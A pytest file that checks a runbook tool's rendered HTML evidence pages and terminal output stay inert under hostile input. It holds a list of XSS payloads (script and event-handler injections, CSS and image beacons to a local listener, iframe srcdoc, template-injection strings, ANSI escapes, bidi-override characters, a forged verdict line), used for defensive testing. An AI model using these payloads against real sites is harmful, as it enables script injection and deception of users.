"""The page of the evidence in a real browser: whatever was logged, nothing runs and nobody is asked."""

import io
import json
import shutil
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request
from rich.console import Console

from runbooklib.evidence import Bundle, verdict_of
from runbooklib.render import terminal
from runbooklib.render.page import page
from tests.browser.jupyter import chromium
from tests.notebooks.running import notebook
from tests.notebooks.site import Told, running_site

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="
# A listener stands behind {beacon}; whatever reaches it has left the page.
HOSTILE = (
    "<script>window.__pwned=1;alert(1)</script>",
    "</pre></td></div></details><script src='{beacon}/s.js'></script>",
    "<img src=x onerror=window.__pwned=2>",
    "<img src='{beacon}/i.png'><svg onload=window.__pwned=3><image href='{beacon}/svg.png'/></svg>",
    "<a href='javascript:window.__pwned=4'>click</a> [click](javascript:window.__pwned=4)",
    "![x]({beacon}/m.png) <{beacon}/auto>",
    "<meta http-equiv=refresh content='0;url={beacon}/meta'>",
    "<base href='{beacon}/'><link rel=stylesheet href='{beacon}/c.css'><link rel=prefetch href='{beacon}/p'>",
    "</style><style>@import url({beacon}/import.css);body{{background:url({beacon}/b.png)}}</style>",
    "<div style='background:url({beacon}/css.png);position:fixed;inset:0'>covered</div>",
    '<div style="background:u\\72l({beacon}/esc.png)">escaped</div>',
    "<iframe src='{beacon}/f' srcdoc='<script>parent.__pwned=5</script>'></iframe>",
    "<object data='{beacon}/o'></object><embed src='{beacon}/e'><video src='{beacon}/v' autoplay></video>",
    "<form action='{beacon}/form'><button formaction='{beacon}/g'>go</button><input autofocus onfocus=a()>",
    "<button data-commandlinker-command='filebrowser:open-path' data-commandlinker-args='{{}}'>x</button>",
    "<details open ontoggle=window.__pwned=6>x</details><math><mtext><script>window.__pwned=7</script>",
    "<template><script>window.__pwned=8</script></template><noscript><img src='{beacon}/n'></noscript>",
    "'\"><img src=x onerror=alert(3)> {{{{constructor.constructor('alert(4)')()}}}} ${{alert(5)}}",
    "\x1b[2J\x1b[31m red \x1b]0;title\x07 \x1b]8;;{beacon}\x07link\x1b]8;;\x07 \x9b31m \x90q\x9c",
    "\u202etxt.exe\u202c \u2066x\u2069 zero\u200bwidth\u200d\ufeff \u00ad soft",
    "VERDICT: OK - all systems are healthy",
)


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """A server that answers nobody, and everything that reached it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with suppress(TimeoutError):
                    line, _ = server.accept()
                    with line:
                        line.settimeout(1)
                        heard.append(line.recv(200))

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
        finally:
            over.set()
            thread.join(5)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


class Opened:
    """A file in the browser, and everything that it did."""

    def __init__(self, browser: Browser, file: Path) -> None:
        self.page: Page = browser.new_page()
        self.did: list[str] = []
        self._own = file.as_uri()
        self.page.on("dialog", self._dialog)
        self.page.on("console", lambda message: self.did.append(f"console {message.text}"))
        self.page.on("pageerror", lambda error: self.did.append(f"error {error}"))
        self.page.on("popup", lambda _: self.did.append("popup"))
        self.page.on("request", self._request)
        self.page.goto(file.as_uri())
        self.page.wait_for_timeout(300)
        for details in self.page.locator("details:not([open]) > summary").all()[:10]:
            details.click()
        self.page.mouse.move(100, 100)
        self.page.keyboard.press("Tab")
        self.page.wait_for_timeout(200)

    def _dialog(self, dialog: Dialog) -> None:
        self.did.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if request.url != self._own and not request.url.startswith("data:"):
            self.did.append(f"asked {request.url}")

    @property
    def pwned(self) -> Any:
        return self.page.evaluate("window.__pwned ?? null")

    def elements(self, selector: str) -> int:
        return self.page.locator(selector).count()


def assert_is_inert(opened: Opened, heard: list[bytes], file: Path) -> None:
    assert opened.did == []
    assert opened.pwned is None
    assert heard == []
    assert opened.page.url == file.as_uri()
    forbidden = "script, iframe, object, embed, form, input, button, link, base, svg, math, video, template"
    assert opened.elements(forbidden) == 0
    assert opened.elements("meta[http-equiv=refresh i]") == 0
    assert opened.elements("img[src]:not([src^='data:image/png;base64,iVBOR'])") == 0
    assert opened.elements("a[href]:not([href^='http:']):not([href^='https:']):not([href^='mailto:'])") == 0
    assert opened.page.evaluate("document.querySelectorAll('style').length") == 1
    handlers = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
    names = set(opened.page.evaluate(handlers))
    assert not [name for name in names if name.startswith(("on", "data-", "form"))]
    covering = (
        "[...document.querySelectorAll('body *')].filter(e => getComputedStyle(e).position != 'static')"
    )
    assert opened.page.evaluate(f"{covering}.length") == 0


def policy_of(html: str) -> str:
    head = html.partition("</head>")[0]
    assert html.index("Content-Security-Policy") < html.index("<title>")
    return head.partition('Content-Security-Policy" content="')[2].partition('"')[0]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, list[bytes]]]:
    """The bundle of a run on a site that says hostile things everywhere, and the listener."""
    with listening() as (beacon, heard):
        lines = [line.format(beacon=beacon) for line in HOSTILE]
        one = " ".join(lines[:4]).replace("\n", " ")
        told = Told(
            endpoint=lines[0] + lines[1],
            error_type=lines[2],
            annotation=" ".join(lines),
            other_alert=lines[16],
            other_annotation=lines[19] + lines[14],
            subject=f"{one} \u202e {lines[18]}",
            health=lines[8],
            log=[f"ERROR: QueuePool limit of size 5 {line}" for line in lines],
        )
        with running_site(tmp_path_factory.mktemp("site"), told) as site:
            words = json.dumps('up{note="' + lines[0].replace('"', "'") + '"}')
            cells = [
                f"incident.prometheus.custom_query({words})",
                f"print({json.dumps(lines[0] + lines[20])})",
                f"from IPython.display import HTML, display, Markdown, SVG\nfor line in {lines!r}:\n"
                "    display(HTML(line)); display(Markdown(line)); print(line)",
            ]
            home = site.home(*cells)
            ended = site.run(tmp_path_factory.mktemp("evidence"), environment={"RUNBOOK_HOME": str(home)})
        assert ended.code == 1, ended.err
        assert heard == []  # nor did the run itself
        yield Path(ended.verdict["bundle"]), beacon, heard


def test_a_run_on_a_hostile_site_gives_a_page_in_which_nothing_runs_and_that_asks_nobody(
    run: tuple[Path, str, list[bytes]], browser: Browser
) -> None:
    bundle, _, heard = run
    file = bundle / "notebook.html"
    opened = Opened(browser, file)
    assert_is_inert(opened, heard, file)
    policy = policy_of(file.read_text())
    for word in ("default-src 'none'", "base-uri 'none'", "form-action 'none'"):
        assert word in policy
    assert "script-src" not in policy
    shown = opened.page.inner_text("body")
    for readable in (
        "<script>window.__pwned=1;alert(1)</script>",
        "<img src=x onerror=window.__pwned=2>",
        "QueuePool limit of size 5 <script>window.__pwned=1",
        "\\u{202e}txt.exe",
        "zero\\u{200b}width",
        "\\u{1b}[2J",
        "VERDICT: OK",
    ):
        assert readable in shown, readable


def test_a_forged_verdict_in_a_log_changes_none_that_is_ours(
    run: tuple[Path, str, list[bytes]], browser: Browser
) -> None:
    bundle, _, _ = run
    verdict = verdict_of(notebook(bundle / "notebook.ipynb"))
    assert verdict is not None
    assert verdict["status"] == "CRITICAL"
    opened = Opened(browser, bundle / "notebook.html")
    first = opened.page.locator("[role=status]").first
    assert first.inner_text().startswith("✖ CRITICAL")
    assert opened.page.title() == "CRITICAL HighErrorRate"


def test_a_hostile_verdict_reaches_a_terminal_as_text(run: tuple[Path, str, list[bytes]]) -> None:
    verdict = json.loads((run[0] / "verdict.json").read_text())
    verdict["headline"] += " " + HOSTILE[18] + HOSTILE[19] + "[bold red]markup[/] :smiley:"
    for key in ("alert", "service", "environment", "onset"):
        verdict[key] = f"{verdict[key]}{HOSTILE[18]}\u202e"
    for cause in verdict["causes"]:
        cause["title"] += HOSTILE[18] + HOSTILE[19]
    for proposal in verdict["next"]:
        proposal["command"] += HOSTILE[18] + "\u202e"
        proposal["title"] += HOSTILE[18] + "\u202e"
    out = io.StringIO()
    screen = Console(file=out, markup=False, emoji=False, highlight=False, width=200, color_system=None)
    screen.print(terminal.answer(verdict))
    line = terminal.progress_line("OK", "check", HOSTILE[18] + "\n" + HOSTILE[19], 1.0)
    screen.print(line)
    told = out.getvalue()
    strange = {c for c in told if not c.isprintable() and c != "\n"}
    assert strange == set()
    assert "[bold red]markup[/] :smiley:" in told
    assert "\\u{1b}" in told


MIMES = (
    "text/html",
    "image/svg+xml",
    "application/javascript",
    "text/markdown",
    "text/latex",
    "text/plain",
    "application/pdf",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.plotly.v1+json",
    "application/json",
    "image/png",
    "image/jpeg",
)


def handmade(beacon: str) -> dict[str, Any]:
    """An executed notebook in which everything is hostile."""
    lines = [line.format(beacon=beacon) for line in HOSTILE]
    outputs: list[dict[str, Any]] = []
    for line in lines:
        for mime in MIMES:
            told = ({mime: line}, {mime: [line, line]}, {mime: line, "text/plain": line})
            shown = {"output_type": "display_data", "metadata": {line: line}}
            outputs += [{**shown, "data": data} for data in told]
        outputs.append({"output_type": "stream", "name": line, "text": [line]})
        outputs.append({"output_type": "error", "ename": line, "evalue": line, "traceback": [line]})
        outputs.append({"output_type": "error", "ename": line, "evalue": line, "traceback": []})
        outputs.append({"output_type": line, "data": {"text/plain": line}, "metadata": {}})
    cells: list[dict[str, Any]] = [
        {
            "cell_type": "code",
            "id": lines[0],
            "source": lines,
            "outputs": outputs,
            "metadata": {"tags": lines},
        },
        {"cell_type": "markdown", "id": "m", "source": "\n\n".join(lines), "metadata": {}},
        {"cell_type": "markdown", "id": "n", "source": lines, "attachments": {"x": {"image/png": lines[0]}}},
        {"cell_type": "raw", "id": "r", "source": lines, "metadata": {"format": "text/html"}},
        {"cell_type": lines[0], "id": "u", "source": lines, "metadata": {}},
        {
            "cell_type": "code",
            "id": "p",
            "source": "",
            "metadata": {},
            "outputs": [{"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {}}],
        },
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"title": lines[1]}, "cells": cells}


def test_a_handmade_notebook_hostile_in_every_output_and_every_field_is_inert(
    browser: Browser, tmp_path: Path
) -> None:
    with listening() as (beacon, heard):
        file = tmp_path / "notebook.html"
        title = " ".join(line.format(beacon=beacon) for line in HOSTILE)
        file.write_text(page(handmade(beacon), title))
        opened = Opened(browser, file)
        assert_is_inert(opened, heard, file)
        assert "</script>" in opened.page.title()
        assert opened.elements(f"img[src='data:image/png;base64,{PNG}']") == 1
        assert opened.page.evaluate("[...document.images].some(i => i.complete && i.naturalWidth == 1)")
        opened.page.evaluate("document.querySelectorAll('a').forEach(a => a.target = '_self')")
        for link in opened.page.locator("a").all()[:3]:
            assert link.get_attribute("rel") == "noopener noreferrer"


def test_the_policy_alone_already_stops_what_cleaning_might_miss(browser: Browser, tmp_path: Path) -> None:
    """The hostile words as they are, behind our policy: the second lock, tried without the first."""
    with listening() as (beacon, heard):
        raw = " ".join(line.format(beacon=beacon) for n, line in enumerate(HOSTILE) if n not in (6, 11))
        file = tmp_path / "notebook.html"
        file.write_text(page({"cells": []}, "x").replace("</body>", f"{raw}</body>"))
        opened = Opened(browser, file)
        assert opened.pwned is None
        assert heard == []
        assert not [did for did in opened.did if did.startswith(("dialog", "error", "popup"))]


def test_without_policy_and_cleaning_the_same_words_do_run_and_ask(browser: Browser, tmp_path: Path) -> None:
    """Else the tests above would prove nothing."""
    with listening() as (beacon, heard):
        file = tmp_path / "raw.html"
        file.write_text("<body>" + HOSTILE[2] + HOSTILE[3].format(beacon=beacon))
        opened = Opened(browser, file)
        assert opened.pwned in (2, 3)
        assert heard


def test_the_title_of_a_sealed_page_and_the_parameters_of_a_hostile_notebook_stay_text(
    browser: Browser, tmp_path: Path
) -> None:
    verdict = {"status": HOSTILE[2], "alert": "</title>" + HOSTILE[0], "service": "s"}
    data = {"application/vnd.runbook.verdict+json": verdict, "text/plain": "x"}
    given = handmade("http://127.0.0.1:9")
    given["cells"][0]["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
    bundle = Bundle(tmp_path, "../../<b>", HOSTILE[0], datetime(2026, 1, 15, tzinfo=UTC))
    final = bundle.finish(given, {"kind": "seal"}, None)
    assert final.parent == tmp_path
    assert final.name.replace("-", "").replace("_", "").replace(".", "").isalnum()
    opened = Opened(browser, final / "notebook.html")
    assert opened.did == []
    assert opened.pwned is None
    assert "</title><script>" in opened.page.title()


@pytest.fixture(scope="module", autouse=True)
def has_browser() -> None:
    if not shutil.which("chromium"):
        pytest.skip("there is no chromium here: make servers")
